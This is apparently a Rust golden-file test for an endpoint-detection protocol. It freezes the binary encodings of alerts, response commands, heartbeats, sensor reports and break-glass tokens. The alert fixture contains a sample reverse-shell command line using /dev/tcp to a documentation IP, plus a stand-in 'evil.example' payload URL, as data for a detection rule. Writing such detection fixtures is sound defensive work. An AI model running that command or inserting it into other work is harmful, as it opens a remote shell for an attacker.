//! Frozen v1 encodings: postcard is not self-describing, so a change to a type's
//! layout must show up here. Regenerate deliberately with WARD_BLESS_GOLDEN=1.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::net::{IpAddr, Ipv4Addr};
use std::path::PathBuf;

use ward_protocol::message::{AlertBatch, Heartbeat};
use ward_protocol::*;

fn alert() -> Alert {
    Alert {
        id: AlertId(Id128::from_u128(0x0190_0000_0000_0000_0000_0000_0000_0001)),
        device_id: DeviceId(Id128::from_u128(42)),
        seq: 7,
        observed_at_ms: 1_760_000_000_000,
        last_observed_at_ms: 1_760_000_000_500,
        rule: RuleRef {
            id: "ward-linux-reverse-shell".into(),
            title: "Reverse shell via /dev/tcp".into(),
            author: "Ward".into(),
            severity: Severity::High,
            techniques: vec!["T1059.004".into()],
            tactics: vec!["TA0002".into()],
        },
        entities: vec![
            Entity::Device {
                hostname: "laptop-7".into(),
            },
            Entity::User {
                name: "alice".into(),
                uid: Some(1000),
            },
            Entity::Process {
                pid: 4242,
                ppid: 1,
                start_time_ms: 1_760_000_000_000,
                exe: "/usr/bin/bash".into(),
                cmdline: "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1".into(),
                sha256: Some([0xab; 32]),
            },
            Entity::File {
                path: "/tmp/x".into(),
                sha256: None,
            },
            Entity::Ip {
                addr: IpAddr::V4(Ipv4Addr::new(203, 0, 113, 5)),
            },
            Entity::Domain {
                name: "evil.example".into(),
            },
            Entity::Url {
                url: "http://evil.example/a.sh".into(),
            },
            Entity::Mailbox {
                address: "alice@example.com".into(),
            },
        ],
        count: 3,
        matched: vec![MatchedField {
            name: "CommandLine".into(),
            value: "/dev/tcp/".into(),
        }],
    }
}

/// An alert with a process lineage (protocol 1.2): `whoami` run by a shell that a
/// Java web server spawned.
fn lineage_alert() -> Alert {
    let node = |pid: u32, ppid: u32, start_time_ms: u64, exe: &str, cmdline: &str, user: &str| ProcessNode {
        pid,
        ppid,
        start_time_ms,
        exe: exe.into(),
        cmdline: cmdline.into(),
        user: Some(user.into()),
        login_user: None,
    };
    let mut a = alert();
    a.entities = vec![
        Entity::Device {
            hostname: "web-1".into(),
        },
        Entity::Lineage {
            process: node(17801, 17794, 1_760_000_021_350, "/usr/bin/whoami", "whoami", "tomcat"),
            ancestors: vec![
                node(17794, 4410, 1_760_000_021_120, "/usr/bin/bash", "bash -i", "tomcat"),
                ProcessNode {
                    login_user: Some("alice".into()),
                    ..node(
                        4410,
                        1,
                        1_759_990_000_010,
                        "/usr/lib/jvm/java-17/bin/java",
                        "java -jar tomcat.jar",
                        "1001",
                    )
                },
            ],
            rooted: true,
        },
    ];
    a
}

fn command() -> Command {
    Command {
        id: CommandId(Id128::from_u128(9)),
        device_id: DeviceId(Id128::from_u128(42)),
        seq: 3,
        issued_at_ms: 1_760_000_000_000,
        expires_at_ms: 1_760_000_900_000,
        action: Action::KillProcess {
            pid: 4242,
            start_time_ms: 1_760_000_000_000,
            exe: "/usr/bin/bash".into(),
            tree: true,
        },
        approval: Approval {
            requested_by: "alice".into(),
            approved_by: vec!["bob".into()],
            reason: "reverse shell".into(),
        },
    }
}

fn check(name: &str, bytes: Vec<u8>) {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/golden/v1")
        .join(format!("{name}.hex"));
    let hex: String = bytes.iter().map(|b| format!("{b:02x}")).collect();
    if std::env::var_os("WARD_BLESS_GOLDEN").is_some() {
        std::fs::write(&path, format!("{hex}\n")).unwrap();
    }
    let want = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    assert_eq!(hex, want.trim(), "{name}: the v1 encoding changed");
}

/// A frame as the golden files hold it: they were written at minor version 1, and
/// a minor bump (a compatible addition) changes only that header byte.
fn at_minor_1(mut frame: Vec<u8>) -> Vec<u8> {
    assert_eq!(frame[5], ward_protocol::PROTOCOL_MINOR);
    frame[5] = 1;
    frame
}

#[test]
fn v1_encodings_are_frozen() {
    let alert = alert();
    let alert_bytes = postcard::to_stdvec(&alert).unwrap();
    check("alert", alert_bytes.clone());
    check("command", postcard::to_stdvec(&command()).unwrap());
    check("alert_lineage", postcard::to_stdvec(&lineage_alert()).unwrap());
    let rollover = KeyRollover {
        serial: 2,
        new_key: PublicKey([9; 32]),
        retire_at_ms: 1_760_604_800_000,
        created_at_ms: 1_760_000_000_000,
    };
    check("key_rollover", postcard::to_stdvec(&rollover).unwrap());
    let batch = AgentMessage::Alerts(AlertBatch {
        batch_id: 11,
        alerts: vec![Signed {
            key_id: KeyId([1; 8]),
            payload: alert_bytes,
            signature: vec![2; 64],
        }],
    });
    check(
        "agent_alerts_frame",
        at_minor_1(encode_frame(&batch, codec::MAX_AGENT_FRAME).unwrap()),
    );
    let hb = AgentMessage::Heartbeat(Heartbeat {
        sent_at_ms: 1,
        inventory: Some(Inventory {
            hostname: "h".into(),
            ..Default::default()
        }),
        isolation: IsolationState::Isolated,
        outbox_depth: 2,
        rule_pack_version: 3,
    });
    check(
        "agent_heartbeat_frame",
        at_minor_1(encode_frame(&hb, codec::MAX_AGENT_FRAME).unwrap()),
    );
    // Minor 3: the collector's command sequence, a new variant at the end.
    check(
        "collector_command_sequence",
        postcard::to_stdvec(&CollectorMessage::CommandSequence { last_assigned: 300 }).unwrap(),
    );
}

/// Protocol 1.4: outbox epochs, acknowledged drop reports and agent health. Frozen as
/// bodies (postcard), since frames carry the minor version in their header.
#[test]
fn v1_4_encodings_are_frozen() {
    let batch = AgentMessage::EpochAlerts(EpochAlertBatch {
        epoch: 0x1234_5678_9abc_def0,
        batch_id: 11,
        alerts: vec![Signed {
            key_id: KeyId([1; 8]),
            payload: vec![3; 4],
            signature: vec![2; 64],
        }],
    });
    check("agent_epoch_alerts", postcard::to_stdvec(&batch).unwrap());
    let notice = AgentMessage::DropNotice(DropNotice {
        epoch: 7,
        report_id: 42,
        seqs_epoch: 6,
        lost_range: Some((5, 300)),
        report: DropReport {
            dropped: 3,
            seqs: vec![1, 2],
            reason: "outbox full".into(),
        },
    });
    check("agent_drop_notice", postcard::to_stdvec(&notice).unwrap());
    let health = AgentMessage::Health(AgentHealth {
        epoch: 7,
        storage_error: Some("no space left on the device for the outbox".into()),
        alerts_waiting: 50,
        alerts_lost: 1,
    });
    check("agent_health", postcard::to_stdvec(&health).unwrap());
    check(
        "collector_drop_stored",
        postcard::to_stdvec(&CollectorMessage::DropStored { report_id: 42 }).unwrap(),
    );
    // The 1.3 messages keep their variant indexes (appended, never inserted).
    let frame = encode_frame(&notice, codec::MAX_AGENT_FRAME).unwrap();
    let (back, _): (AgentMessage, _) = decode_frame(&frame, codec::MAX_AGENT_FRAME).unwrap();
    assert_eq!(back, notice);
}

/// Protocol 1.5: sensor readiness, a new variant at the end.
#[test]
fn v1_5_encodings_are_frozen() {
    let report = AgentMessage::Sensors(SensorReport {
        sensors: vec![
            SensorState {
                name: "file".into(),
                readiness: Readiness::Ready,
                source: "inotify: 11 roots, 5231 watches".into(),
                detail: None,
                since_ms: 1_760_000_000_000,
                lost: 0,
            },
            SensorState {
                name: "auth".into(),
                readiness: Readiness::Blind,
                source: String::new(),
                detail: Some("no auth log and no journald".into()),
                since_ms: 1_760_000_000_001,
                lost: 3,
            },
        ],
    });
    check("agent_sensors", postcard::to_stdvec(&report).unwrap());
    let frame = encode_frame(&report, codec::MAX_AGENT_FRAME).unwrap();
    let (back, _): (AgentMessage, _) = decode_frame(&frame, codec::MAX_AGENT_FRAME).unwrap();
    assert_eq!(back, report);
}

/// An alert with a process's context (protocol 1.6): a shell on a terminal, logged in
/// as alice, in a docker container's cgroup and namespaces.
fn context_alert() -> Alert {
    let mut a = alert();
    a.entities = vec![
        Entity::Device {
            hostname: "web-1".into(),
        },
        Entity::ProcessContext {
            pid: 17801,
            start_time_ms: 1_760_000_021_350,
            cwd: "/var/www".into(),
            tty: "pts/3".into(),
            session_id: Some(12),
            login_uid: Some(1000),
            login_user: Some("alice".into()),
            cgroup: "/system.slice/docker-4f1c0de2a9b8e7d6c5b4a3928170f6e5d4c3b2a1908f7e6d5c4b3a2918071625.scope"
                .into(),
            container_id: Some("4f1c0de2a9b8e7d6c5b4a3928170f6e5d4c3b2a1908f7e6d5c4b3a2918071625".into()),
            mnt_ns: Some(4_026_532_301),
            pid_ns: Some(4_026_532_304),
            host_namespaces: Some(false),
        },
    ];
    a
}

/// Protocol 1.6: the process context entity, a new variant at the end of `Entity`.
#[test]
fn v1_6_encodings_are_frozen() {
    check("alert_context", postcard::to_stdvec(&context_alert()).unwrap());
    assert_eq!(
        postcard::from_bytes::<Alert>(&golden_bytes("alert_context")).unwrap(),
        context_alert()
    );
}

fn golden_bytes(name: &str) -> Vec<u8> {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/golden/v1")
        .join(format!("{name}.hex"));
    let hex = std::fs::read_to_string(path).unwrap();
    (0..hex.trim().len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&hex[i..i + 2], 16).unwrap())
        .collect()
}

#[test]
fn golden_files_decode_to_the_values() {
    assert_eq!(postcard::from_bytes::<Alert>(&golden_bytes("alert")).unwrap(), alert());
    assert_eq!(
        postcard::from_bytes::<Alert>(&golden_bytes("alert_lineage")).unwrap(),
        lineage_alert()
    );
}

/// A break-glass token issued before the token moved from the agent to this crate
/// (text form: base64url, no padding, of the postcard `Signed`) still opens, and the
/// same token signed with the same key today gives the same text (Ed25519 is
/// deterministic), so tokens issued by an older collector work on a newer agent and
/// the other way round.
#[test]
fn break_glass_token_text_is_frozen() {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/golden/v1");
    let text = std::fs::read_to_string(dir.join("break_glass_token.txt")).unwrap();
    let text = text.trim();
    let pkcs8 = std::fs::read_to_string(dir.join("break_glass_key.pkcs8.hex")).unwrap();
    let pkcs8: Vec<u8> = (0..pkcs8.trim().len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&pkcs8.trim()[i..i + 2], 16).unwrap())
        .collect();
    let key = SigningKey::from_pkcs8(&pkcs8).unwrap();
    let device = DeviceId(Id128::from_u128(42));
    let want = BreakGlassToken::new(device, 1_760_000_000_000, [0x5a; 16]);
    assert_eq!(BreakGlassToken::open(text, &[key.public_key()]).unwrap(), want);
    let now = 1_760_000_000_000 - 3_600_000;
    assert_eq!(
        BreakGlassToken::verify(text, device, &[key.public_key()], now).unwrap(),
        want
    );
    assert_eq!(want.sign(&key).unwrap(), text, "the break-glass token text changed");
}
